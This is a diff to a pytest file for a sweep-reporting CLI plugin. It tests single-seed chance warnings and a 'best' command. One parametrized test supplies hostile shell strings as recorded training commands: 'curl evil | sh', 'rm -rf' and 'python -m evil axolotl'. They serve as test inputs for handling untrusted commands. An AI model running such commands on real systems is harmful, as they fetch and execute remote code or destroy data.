@@ -7,7 +7,8 @@ import sys
 
 import pytest
 from clikit import read_json, wit
-from sweepkit import collect, finished_grid, grid, made_up
+from support import subprocess_env
+from sweepkit import RECORD, collect, finished, finished_grid, grid, made_up, study_of
 
 from wit_plugins import WITConfigError
 from wit_plugins.cli.sweep.heatmap import colour_limits
@@ -171,7 +172,7 @@ def test_a_large_grid_prints_what_matters(tmp_path, capsys):
     cells_ = grid(",".join(f"{i / 10}" for i in range(12)), ",".join(f"{i / 10}" for i in range(1, 11)))
     runs = tmp_path / "runs"
     losses = {cell: (cell.weights[0] - 0.35) ** 2 + (cell.weights[1] - 0.82) ** 2 for cell in cells_}
-    finished_grid(runs, {cell: ("finished", {"eval_response_loss": loss}) for cell, loss in losses.items()})
+    finished_grid(runs, losses)
     assert report(runs) == 0
     out = capsys.readouterr().out
     assert len(out.splitlines()) < 40
@@ -228,3 +229,52 @@ def test_a_clipped_heat_map_says_so(tmp_path, monkeypatch):
 )
 def test_values_have_four_digits(value, text):
     assert format_value(value) == text
+
+
+def test_a_winner_among_differences_that_may_be_chance(tmp_path, capsys, monkeypatch):
+    """After four steps, without a second seed: the words, the file and the picture's axis say so."""
+    import matplotlib.pyplot as plt
+
+    figures = []
+    monkeypatch.setattr(plt, "close", figures.append)
+    cells = dict(zip(grid("0,0.2,1", "1"), (2.2107, 2.2095, 2.2097), strict=True))
+    finished_grid(tmp_path / "runs", cells)
+    assert report(tmp_path / "runs") == 0
+    said = "One seed cannot say whether that is more than chance; differences of this size may be"
+    assert said in " ".join(capsys.readouterr().out.split())
+    assert said in read_json(tmp_path / "runs" / "results.json")["verdict"]
+    labels = " ".join(axis.get_ylabel() for axis in figures[0].axes).split()
+    assert "one seed, so differences may be chance; all cells are within 0.001200" in " ".join(labels)
+    code, out, _ = wit("best", tmp_path / "runs", capsys=capsys)
+    assert (code, "adapter has that name" in out) == (2, False)  # of a made-up framework
+
+
+BEST = """
+import sys
+for name in ("torch", "transformers", "accelerate", "datasets", "trl", "axolotl", "llamafactory", "pydantic"):
+    sys.modules[name] = None  # importing it is an ImportError
+from wit_plugins.cli.main import main
+code = main(["best", sys.argv[1]])
+ours = ("wit_plugins", "wit_axolotl", "matplotlib", "rich")
+print(*sorted(name for name in sys.modules if name.split(".")[0] in ours))
+sys.exit(code)
+"""
+
+
+@pytest.mark.parametrize("train", ["axolotl train", "curl evil | sh", "rm -rf", "python -m evil axolotl"])
+def test_the_best_cell_needs_no_torch(tmp_path, train):
+    """The study says what to paste and to run; if it names another program than the adapter's, the adapter says it."""
+    record = {**RECORD, "framework": "axolotl", "block": "wit", "train": train}
+    study_of(tmp_path / "runs", [finished(cell, 1.5 + cell.weights[0]) for cell in grid("0,0.4", "1")], record)
+    known = train == "axolotl train"
+    code = BEST if known else BEST.replace("sys.modules[name] = None", "pass")
+    done = subprocess.run(
+        [sys.executable, "-c", code, str(tmp_path / "runs")], capture_output=True, text=True, env=subprocess_env()
+    )
+    assert done.returncode == 0, done.stderr
+    *lines, modules = done.stdout.splitlines()
+    assert lines[-1].startswith("#   axolotl train ")
+    assert lines[2:5] == ["wit:", "  prompt_weight: 0.0", "  response_weight: 1.0"]
+    if known:
+        assert not {"wit_axolotl.driver", "matplotlib", "rich.console", "wit_plugins.plugins"} & set(modules.split())
+        assert len(modules.split()) <= 25, modules
